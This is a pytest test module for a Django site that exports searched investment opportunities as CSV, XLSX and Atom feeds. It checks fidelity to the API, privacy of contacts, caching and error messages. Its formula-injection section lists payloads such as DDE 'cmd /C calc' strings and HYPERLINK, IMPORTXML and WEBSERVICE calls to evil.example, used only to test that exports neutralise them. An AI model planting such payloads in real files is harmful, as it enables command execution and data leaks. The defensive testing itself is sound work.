"""Files of a search: the rows, order and values of the API, never a formula, never a person (P31)."""

from __future__ import annotations

import csv
import io
import os
import random
import re
import unicodedata
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.core.cache import caches
from django.db import OperationalError, connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from opportunities import exporting, publishing
from opportunities.exporting import COLUMNS, harmless
from opportunities.models import Contact, Opportunity
from opportunities.search.query import Search
from tests.factories import make_edition, make_opportunity
from tests.oracle import CHONGQING, SECOND_CITY, Oracle, Questions, query_string
from tests.readings import hooks_of
from tests.spreadsheets import (
    CHINESE,
    ENGLISH,
    cells_of,
    csv_rows,
    expected,
    items_of,
    notes_of,
    parts_of,
    unmarked,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db

SEED = os.environ.get("SEED", "2026")
CHUNKS, SEARCHES = 4, 50
CSV, XLSX = "/opportunities/export.csv", "/opportunities/export.xlsx"


def body_of(client: Client, path: str) -> bytes:
    answer = client.get(path)
    assert answer.status_code == 200, f"{path}: {answer.getvalue()[:300]!r}"
    return answer.getvalue()


def references(client: Client, path: str) -> list[str]:
    return [row["Reference"] for row in csv_rows(body_of(client, path), CHINESE)]


# --- the same as the API --------------------------------------------------------------------------


def compare(client: Client, pack: Path, zone: str, chunk: object, searches: int) -> None:
    print(f"SEED={SEED}")
    ask = Questions(Oracle.of(pack), f"{SEED}-exports-{pack.name}-{chunk}")
    for number in range(searches):
        params = ask()
        where = f"SEED={SEED} chunk {chunk}: ?{query_string(params)}"
        prefix, headings = ("/en", ENGLISH) if number % 2 else ("", CHINESE)
        rows = expected(items_of(client, params), zone, english=bool(prefix))
        query = query_string(params)
        assert csv_rows(body_of(client, f"{prefix}{CSV}?{query}"), headings) == rows, f"{where} CSV"
        assert xlsx_rows(body_of(client, f"{prefix}{XLSX}?{query}"), headings) == rows, f"{where} XLSX"
        if number % 10 == 0:
            page = client.get(f"{prefix}/opportunities/?{query}", follow=True).content.decode()
            assert hooks_of(page).counts == [str(len(rows))], f"{where} page"


@pytest.mark.parametrize("chunk", range(CHUNKS))
def test_rows_order_and_values_are_the_apis_for_random_searches(chongqing, client, chunk):
    compare(client, CHONGQING, "Asia/Shanghai", chunk, SEARCHES)


def test_rows_order_and_values_are_the_apis_in_another_city_too(catalogue, client):
    compare(client, SECOND_CITY, "Asia/Urumqi", "second city", 20)


def test_an_earlier_edition_is_exported_when_asked_for(client):
    make_edition("2019-01")
    make_opportunity(reference="OLD-1")
    make_edition("2020-01")
    make_opportunity(reference="NEW-1")
    assert references(client, CSV) == ["NEW-1"]
    assert references(client, f"{CSV}?edition=2019-01") == ["OLD-1"]


def test_every_attribute_has_its_column_and_every_heading_is_its_own():
    assert {column.number for column in COLUMNS} == set(range(13))
    for language, headings in (("zh-hans", CHINESE), ("en", ENGLISH)):
        with translation.override(language):
            assert [str(column.heading) for column in COLUMNS] == headings
        assert len(set(headings)) == len(headings)


def test_a_file_is_named_by_catalogue_edition_and_the_day_the_data_are_of(catalogue, client):
    day = Search.everything().scheme.as_of
    for path, extension in ((CSV, "csv"), (XLSX, "xlsx")):
        answer = client.get(path)
        assert answer.getvalue()
        assert answer.headers["Content-Disposition"] == (
            f'attachment; filename="qingyu-2025-spring_{day}.{extension}"'
        )


def test_an_empty_search_gives_a_file_with_headings_alone(catalogue, client):
    assert cells_of(body_of(client, f"{CSV}?q=zzz")) == [CHINESE]
    assert xlsx_rows(body_of(client, f"{XLSX}?q=zzz"), CHINESE) == []


def test_a_csv_has_the_line_ends_that_spreadsheets_write(catalogue, client):
    body = body_of(client, CSV)
    assert body.endswith(b"\r\n")
    assert body.count(b"\r\n") == len(cells_of(body))


# --- the workbook ---------------------------------------------------------------------------------


def test_the_notes_say_what_was_searched_when_and_what_each_column_means(chongqing, client):
    path = f"{XLSX}?region=metro&bracket=10-50&sort=name"
    notes = notes_of(body_of(client, f"/en{path}"))
    about = {name: value for name, value, _attribute in notes[: notes.index(["", "", ""])]}
    search = Search.from_query(QueryDict("region=metro&bracket=10-50&sort=name"))
    assert about["Search"] == "Opportunities: Chongqing Metropolitan Area; CNY 1–5 bn"
    assert about["Conditions"] == "Region: Chongqing Metropolitan Area\nInvestment: CNY 1–5 bn"
    assert about["Address of the search"] == (
        "http://127.0.0.1:8000/en/opportunities/?region=metro&bracket=10-50&sort=name"
    )
    assert about["Order"] == "name"
    assert about["Opportunities"] == search.count
    assert Decimal(str(about["Total of the places searched (CNY 100 million)"])) == search.total_investment
    assert about["Data as of"] == search.scheme.as_of
    assert about["List"] == "Chongqing Industrial Opportunity List 2024"
    assert about["Edition"] == "2024-04"
    assert about["Licence"] == "Apache-2.0"
    assert about["Notice"].startswith("Sample data")
    assert ["Jobs", "People employed at full output.", 7.0] in notes
    assert [row[0] for row in notes_of(body_of(client, XLSX))[-len(COLUMNS) :]] == CHINESE


def test_the_workbook_has_typed_cells_a_frozen_heading_and_a_filter(chongqing, client):
    sheet = dict(parts_of(body_of(client, f"{XLSX}?sector=food")))["xl/worksheets/sheet1.xml"]
    rows = Search.from_query(QueryDict("sector=food")).count + 1
    assert 'ySplit="1"' in sheet
    assert 'state="frozen"' in sheet
    assert re.search(rf'<autoFilter ref="A1:[A-Z]+{rows}"', sheet)
    second = ElementTree.fromstring(sheet).findall(".//{*}row")[1]
    types = {cell.get("t", "n") for cell in second}
    assert types == {"inlineStr", "n"}


def test_a_workbook_ends_at_its_limit_and_the_refusal_leads_to_the_csv(catalogue, client, monkeypatch):
    assert exporting.ROWS_MAX == 10_000
    everything = Search.everything().count
    monkeypatch.setattr(exporting, "ROWS_MAX", everything)
    assert len(xlsx_rows(body_of(client, XLSX), CHINESE)) == everything
    assert "export.xlsx" in client.get("/opportunities/").content.decode().partition("<footer")[0]
    for name in ("default", "pieces"):
        caches[name].clear()
    monkeypatch.setattr(exporting, "ROWS_MAX", everything - 1)
    answer = client.get(f"/en{XLSX}?sort=name")
    assert answer.status_code == 400
    problem = answer.json()
    assert problem["instead"] == "http://127.0.0.1:8000/en/opportunities/export.csv?sort=name"
    assert str(everything) in problem["errors"][0]["message"]["en"]
    page = client.get(f"{XLSX}?sort=name", HTTP_ACCEPT="text/html").content.decode()
    assert 'href="/opportunities/export.csv?sort=name"' in page
    assert "export.xlsx" not in client.get("/opportunities/").content.decode().partition("<footer")[0]
    assert len(references(client, CSV)) == everything


def test_a_text_too_long_for_a_cell_is_cut_where_one_can_see_it(client):
    make_opportunity(content_zh="长" * 40_000, content_en="😀" * 16_384, conditions_zh="短" * 32_767)
    row = xlsx_rows(body_of(client, XLSX), CHINESE)[0]
    assert row["Construction content (Chinese)"] == "长" * 16_383 + "…"
    assert row["Construction content (English)"] == "😀" * 16_383 + "…"
    assert row["Site conditions (Chinese)"] == "短" * 32_767
    assert csv_rows(body_of(client, CSV), CHINESE)[0]["Construction content (Chinese)"] == "长" * 40_000


def test_control_characters_come_through(client):
    text = "a\x01b\x1fc\x7fd\x85e\r\nf\tg_x000D_h\u2028i"
    make_opportunity(content_zh=text)
    assert xlsx_rows(body_of(client, XLSX), CHINESE)[0]["Construction content (Chinese)"] == text
    assert csv_rows(body_of(client, CSV), CHINESE)[0]["Construction content (Chinese)"] == text


def test_the_same_state_of_the_list_gives_the_same_bytes(catalogue, client):
    for path in (CSV, XLSX):
        assert body_of(client, path) == body_of(client, path)


# --- never a formula ------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML("http://evil.example/","//a")', '=WEBSERVICE("http://evil.example/")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}=", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1",
    "   +1", "\u3000=1+1", "\xa0-1", "\u200b=1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1",
    "\u22121", "'=1+1", "''=1+1", "\"=1+1", "\"\"=1\"", "“=1+1", "＇=1+1", "x;=1+1", "x\n=1+1", "x\r+1",
    "a\t@b", "\tx", "\rx", "'\tx", "=", "-", "\x1f=1+1", "+86 23 0000 0000", "1;\u3000'=2", ";=1",
]  # fmt: skip
# As a spreadsheet reads them in one locale or another.
SEPARATORS = (",", ";", "\t")


def could_be_formula(cell: str) -> bool:
    """What a spreadsheet may make of a cell: a sign first, whatever space or quote it looks past."""
    plain = unicodedata.normalize("NFKC", cell)
    start = re.sub(r'^[\s"\x00-\x20\u200b\ufeff\u2212“]*', lambda m: "-" if "\u2212" in m[0] else "", plain)
    return start.startswith(("=", "+", "-", "@"))


def test_that_check_knows_a_formula():
    assert could_be_formula("=1+1")
    assert could_be_formula(' "\u3000＝1')
    assert not could_be_formula("'=1+1")
    assert not could_be_formula("a=1")


@pytest.fixture
def poisoned() -> list[str]:
    """The payloads in every text of as many opportunities; gives them in the order of references."""
    assert len(PAYLOADS) >= 40
    for number, payload in enumerate(PAYLOADS):
        make_opportunity(
            reference=f"EVIL-{number:03d}",
            name_zh=payload,
            name_en=payload,
            summary_zh=payload,
            content_zh=payload,
            advantages_en=payload,
            investment=Decimal(1),
            contact={"unit_zh": payload, "unit_en": payload, "office_phone": payload},
        )
    return PAYLOADS


def test_no_payload_is_a_formula_in_a_csv_whatever_separator_is_expected(poisoned, client):
    body = body_of(client, CSV)
    rows = csv_rows(body, CHINESE)
    for row, payload in zip(rows, poisoned, strict=True):
        for heading in ("Name (Chinese)", "Advantages (English)", "Contact unit (English)", "Office phone"):
            assert row[heading] == payload, "the mark can be undone"
    text = re.sub("\r\n?", "\n", body.decode("utf-8-sig"))
    for separator in SEPARATORS:
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert len(cells) > len(poisoned)
        assert [cell for cell in cells if could_be_formula(cell)] == [], repr(separator)


def test_no_payload_is_a_formula_in_a_workbook(poisoned, client):
    body = body_of(client, XLSX)
    for row, payload in zip(xlsx_rows(body, CHINESE), poisoned, strict=True):
        for heading in ("Name (Chinese)", "Advantages (English)", "Contact unit (English)", "Office phone"):
            assert row[heading] == payload
    for name, text in parts_of(body):
        assert not re.search(r"<(?:\w+:)?f[ >/]", text), f"a formula in {name}"
        assert "externalLink" not in name
        assert "<hyperlink" not in text
    styles = dict(parts_of(body))["xl/styles.xml"]
    assert 'quotePrefix="1"' in styles


def test_the_mark_is_undone_exactly_whatever_the_text():
    dice = random.Random(SEED)
    pieces = [*"'=+-@;\t\r\n \"“\u3000＝a0\0", "''"]
    for _ in range(5_000):
        text = "".join(dice.choice(pieces) for _ in range(dice.randint(0, 8)))
        marked = harmless(text)
        assert unmarked(marked) == text, repr(text)
        assert not could_be_formula(marked), repr(text)
    for plain in ("", "渝中区", "a-b", "1 = 1", "5 % – 7 %", "it's", "a; b", "第一条\n第二条"):
        assert harmless(plain) == plain


def test_marking_takes_time_in_proportion_to_the_text():
    """A text of separators alone is looked at once, not once from each of them."""
    text = "\n;\t " * 50_000
    assert harmless(text) == "'" + text


# --- nobody's name, nothing hidden ----------------------------------------------------------------

PERSONAL = ("甲某某", "处长甲", "Head A", "000-1234 5678")


def test_no_file_names_a_person(client):
    make_opportunity(
        contact={
            "unit_zh": "示范单位",
            "name": PERSONAL[0],
            "post_zh": PERSONAL[1],
            "post_en": PERSONAL[2],
            "phone": PERSONAL[3],
        }
    )
    assert Contact.objects.get().phone == PERSONAL[3]
    for prefix in ("", "/en"):
        said = body_of(client, prefix + CSV).decode()
        said += "".join(text for _name, text in parts_of(body_of(client, prefix + XLSX)))
        said += body_of(client, f"{prefix}/opportunities/feed.atom").decode()
        assert "示范单位" in said
        assert [secret for secret in PERSONAL if secret in said] == []


def test_what_is_withdrawn_while_a_file_is_sent_is_left_out_of_the_rest(client, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    made = [make_opportunity(reference=f"ROW-{number}") for number in range(1, 6)]
    answer = client.get(CSV)
    pieces = iter(answer.streaming_content)
    body = next(pieces) + next(pieces)
    publishing.withdraw(made[3])
    body += b"".join(pieces)
    assert [row["Reference"] for row in csv_rows(body, CHINESE)] == ["ROW-1", "ROW-2", "ROW-3", "ROW-5"]


# --- constant memory ------------------------------------------------------------------------------


def test_a_csv_is_read_piece_by_piece_at_the_same_cost_each(client, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 3)
    make_edition()
    for number in range(9):
        make_opportunity(reference=f"ROW-{number}", districts=["1101", "2201"])
    answer = client.get(CSV)
    assert answer.streaming
    assert "Content-Length" not in answer.headers
    pieces, costs, rows = iter(answer.streaming_content), [], []
    while True:
        with CaptureQueriesContext(
            connection,
        ) as queries:
            piece = next(pieces, None)
        if piece is None:
            break
        costs.append(len(queries))
        rows.append(piece.count(b"ROW-"))
    # Each row names itself and its address.
    assert [count // 2 for count in rows] == [0, 3, 3, 3]
    # The heading costs nothing; a piece its rows, their places, forms of cooperation and contacts.
    assert costs == [0, 4, 4, 4]


def test_neither_more_rows_nor_more_columns_cost_more_queries(client, monkeypatch):
    def cost(path: str) -> int:
        with CaptureQueriesContext(connection) as queries:
            client.get(path).getvalue()
        return len(queries)

    make_edition()
    make_opportunity(districts="1101")
    few = {path: cost(path) for path in (CSV, XLSX, "/opportunities/feed.atom")}
    for _ in range(7):
        make_opportunity(districts=["1101", "2201"], cooperation=["equity", "leasing"])
    assert {path: cost(path) for path in few} == few


def test_a_file_that_ends_early_says_so_in_its_last_line(client, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    for _ in range(4):
        make_opportunity()
    answer = client.get(f"/en{CSV}")
    pieces = iter(answer.streaming_content)
    body = next(pieces) + next(pieces)

    def away(*args: object) -> None:
        raise OperationalError

    with connection.execute_wrapper(away):
        body += b"".join(pieces)
    assert cells_of(body)[-1] == ["This file is incomplete. Please download it again."]
    assert len(cells_of(body)) == 4


# --- asked over HTTP ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [CSV, XLSX, "/opportunities/feed.atom"])
def test_a_file_is_revalidated_like_any_public_answer(catalogue, client, path):
    first = client.get(path)
    body = first.getvalue()
    assert first.headers["Cache-Control"] == "public, no-cache"
    tag = first.headers["ETag"]
    assert tag.startswith('W/"')
    again = client.get(path, HTTP_IF_NONE_MATCH=tag)
    assert (again.status_code, again.getvalue()) == (304, b"")
    head = client.head(path)
    assert head.status_code == 200
    assert head.getvalue() == b""
    for name in ("ETag", "Content-Type", "Content-Disposition", "Cache-Control"):
        assert head.headers.get(name) == first.headers.get(name)
    make_opportunity(edition=catalogue)
    changed = client.get(path, HTTP_IF_NONE_MATCH=tag)
    assert changed.status_code == 200
    assert changed.getvalue() != body
    for method in ("post", "put", "patch", "delete", "options"):
        answer = getattr(client, method)(path)
        assert (answer.status_code, answer.headers["Allow"]) == (405, "GET, HEAD")


def test_large_files_are_not_kept_in_memory_but_a_feed_is(catalogue, client):
    def cost(path: str) -> int:
        client.get(path).getvalue()
        with CaptureQueriesContext(connection) as queries:
            client.get(path).getvalue()
        return len(queries)

    assert cost(CSV) > 1
    assert cost(XLSX) > 1
    assert cost("/opportunities/feed.atom") == 1


EXPORTS, FEED = (CSV, XLSX), ("/opportunities/feed.atom",)
REFUSED = [
    # asked of whom, the query, the parameter named, what was probably meant
    (EXPORTS + FEED, "view=table", "view", None),
    (EXPORTS + FEED, "page=2", "page", None),
    (EXPORTS + FEED, "page_size=100", "page_size", None),
    (EXPORTS + FEED, "fields=full", "fields", None),
    (EXPORTS + FEED, "format=yaml", "format", None),
    (EXPORTS + FEED, "investment_min_bn=1", "investment_min_bn", "investment_min"),
    (EXPORTS + FEED, "utm_source=letter", "utm_source", None),
    (EXPORTS + FEED, "from=timeline", "from", None),
    (EXPORTS + FEED, "asked=x", "asked", None),
    (EXPORTS + FEED, "sectr=food", "sectr", "sector"),
    (EXPORTS + FEED, "sector=fod", "sector", "food"),
    (EXPORTS + FEED, "sector=food&sector=no-such", "sector", None),
    (EXPORTS + FEED, "q=%21%21", "q", None),
    (EXPORTS + FEED, "q=a&q=b", "q", None),
    (EXPORTS + FEED, "investment_min=1e3", "investment_min", None),
    (EXPORTS + FEED, "investment_min=120&investment_max=100", "investment_min", None),
    (EXPORTS + FEED, "cycle_max=0", "cycle_max", None),
    (EXPORTS + FEED, "edition=1999", "edition", None),
    (EXPORTS, "sort=nme", "sort", "name"),
    (EXPORTS, "sort=name&sort=cycle", "sort", None),
    (FEED, "sort=-updated", "sort", None),
]


@pytest.mark.parametrize(("paths", "query", "parameter", "meant"), REFUSED, ids=[r[1] for r in REFUSED])
def test_what_is_not_taken_is_refused_in_words_and_never_redirected(
    chongqing, client, paths, query, parameter, meant
):
    for prefix in ("", "/en"):
        for path in paths:
            answer = client.get(f"{prefix}{path}?{query}")
            assert answer.status_code == 400
            assert answer.headers["Content-Type"] == "application/problem+json"
            assert answer.headers["Cache-Control"] == "no-store"
            error = answer.json()["errors"][0]
            assert error["parameter"] == parameter
            assert error["value"]
            assert error["message"]["zh"] != error["message"]["en"]
            if meant:
                assert error["did_you_mean"] == meant
            if len(set(QueryDict(query).getlist(parameter))) == 1 and "%21" not in query:
                assert error["allowed"]


@pytest.mark.parametrize("path", [*EXPORTS, *FEED])
def test_a_browser_is_told_on_a_page(chongqing, client, path):
    accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    answer = client.get(f"/en{path}?sector=fod", HTTP_ACCEPT=accept)
    assert answer.status_code == 400
    page = answer.content.decode()
    assert "<h1>Some conditions need a change</h1>" in page
    assert "<code>fod</code> is not a known value of Sector." in page
    assert "Did you mean <code>food</code>?" in page
    assert "<code>biomedicine</code>" in page


@pytest.mark.parametrize("path", [*EXPORTS, *FEED])
def test_another_spelling_of_a_search_is_answered_where_it_stands(chongqing, client, path):
    query = "investment_min=%EF%BC%91%EF%BC%90.50&sector=food&sector=biomedicine&q=&district="
    plain = client.get(f"{path}?sector=biomedicine&sector=food&investment_min=10.5")
    odd = client.get(f"{path}?{query}")
    assert (plain.status_code, odd.status_code) == (200, 200)
    assert plain.getvalue() == odd.getvalue()


# --- where they are linked ------------------------------------------------------------------------


def links_of(html: str) -> list[str]:
    return [link.replace("&amp;", "&") for link in re.findall(r'href="([^"]*)"', html)]


@pytest.mark.parametrize("prefix", ["", "/en"])
def test_the_search_page_leads_to_its_own_files_and_its_own_feed(chongqing, client, prefix):
    page = client.get(
        f"{prefix}/opportunities/?q=%E5%9F%BA%E5%9C%B0&region=metro&sort=name&view=table&page=1&page_size=10",
        follow=True,
    ).content.decode()
    body, _footer, foot = page.partition("<footer")
    query = "?q=%E5%9F%BA%E5%9C%B0&region=metro"
    wanted = {
        f"{prefix}/opportunities/export.csv{query}&sort=name",
        f"{prefix}/opportunities/export.xlsx{query}&sort=name",
        f"{prefix}/opportunities/feed.atom{query}",
    }
    assert wanted <= set(links_of(body))
    for link in wanted:
        assert body_of(client, link)
    feeds = re.findall(r'<link rel="alternate" type="application/atom\+xml"[^>]* href="([^"]*)">', body)
    assert [feed.replace("&amp;", "&") for feed in feeds] == [f"{prefix}/opportunities/feed.atom{query}"]
    assert {f"{prefix}/opportunities/{name}" for name in ("export.csv", "export.xlsx", "feed.atom")} <= set(
        links_of(foot)
    )
    count = int(hooks_of(page).counts[0])
    headings = ENGLISH if prefix else CHINESE
    export = body_of(client, f"{prefix}/opportunities/export.csv{query}&sort=name")
    assert len(csv_rows(export, headings)) == count


def test_a_page_that_lists_nothing_offers_no_file_and_a_refused_one_no_feed(chongqing, client):
    empty = client.get("/opportunities/?q=qqqq").content.decode().partition("<footer")[0]
    assert "export.csv" not in empty
    assert "feed.atom?q=qqqq" in empty
    refused = client.get("/opportunities/?sector=no-such").content.decode().partition("<footer")[0]
    assert "/opportunities/export." not in refused
    assert "feed.atom" not in refused


def test_the_only_door_is_the_search(catalogue, client):
    """What the search does not find is in no file: hidden ones count nowhere."""
    make_opportunity(reference="HIDE-1", edition=catalogue, publication="draft")
    assert "HIDE-1" not in references(client, CSV)
    assert len(references(client, CSV)) == Opportunity.objects.public().count()
